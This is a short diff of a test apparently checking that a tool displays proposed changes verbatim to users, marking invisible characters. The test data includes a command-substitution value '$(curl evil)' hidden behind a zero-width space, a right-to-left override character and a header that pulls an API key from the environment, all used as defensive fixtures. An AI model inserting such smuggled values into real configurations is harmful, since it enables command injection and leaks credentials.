@@ -191,7 +191,7 @@ test('shows the user each change verbatim, line by line, with marks for invisibl
     `Argument ${echo.args.length + 2}: "PKG⟨U+202E⟩"`,
     'Variable API_TOKEN: "$(curl evil)⟨U+200B⟩"',
     'Header Authorization: "Bearer ${env:OPENAI_API_KEY}"',
-    'Variable MODE: "x" is taken out',
+    'Variable MODE: "x" is removed',
   ]);
   expect(change?.lines).toContainEqual({
     what: 'Description',
